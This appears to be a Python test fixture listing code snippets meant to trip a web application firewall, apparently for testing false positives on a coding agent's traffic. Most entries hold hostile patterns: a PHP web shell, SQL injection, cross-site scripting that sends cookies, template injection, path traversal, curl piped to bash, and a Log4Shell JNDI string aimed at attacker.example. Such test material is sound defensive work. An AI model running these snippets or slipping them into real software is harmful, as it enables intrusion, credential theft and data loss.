"""What a coding agent sends and gets back: code in every language the WAF knows as an attack
language, none of it an attack on anything. Shared by the test scripts."""

CODE = [
    "import os, subprocess\nsubprocess.run(['rm', '-rf', '/tmp/build'])\nprint(open('/etc/passwd').read())",
    "SELECT u.name, COUNT(*) FROM users u JOIN orders o ON o.user_id = u.id\nWHERE u.created_at > '2026-01-01' OR 1=1\nGROUP BY u.name; -- count orders",
    "#!/bin/bash\nset -euo pipefail\ncurl -fsSL https://get.example.com/install.sh | bash\nfor f in $(ls ../../logs/*.log); do cat \"$f\" | grep -i error; done",
    "<script>\ndocument.getElementById('out').innerHTML = '<img src=x onerror=alert(1)>';\nfetch('/api?q=' + encodeURIComponent(document.cookie));\n</script>",
    "<?php\n$cmd = $_GET['cmd'];\nsystem($cmd);\neval(base64_decode($payload));\n?>",
    "{% for user in users %}{{ user.name | upper }}{% endfor %}\n{{ config.__class__.__init__.__globals__ }}",
    "FROM debian:bookworm\nRUN apt-get update && apt-get install -y curl\nCMD [\"/bin/sh\", \"-c\", \"wget -qO- http://localhost:8080/health || exit 1\"]",
    "const { exec } = require('child_process');\nexec('cat ../../../etc/hosts', (err, out) => console.log(out));\nObject.prototype.__proto__.polluted = true;",
    "logger.info(\"${jndi:ldap://attacker.example/a}\") // why is Log4Shell dangerous?",
    "The meeting moved to 3pm; bring the Q3 numbers and the slides.",
]
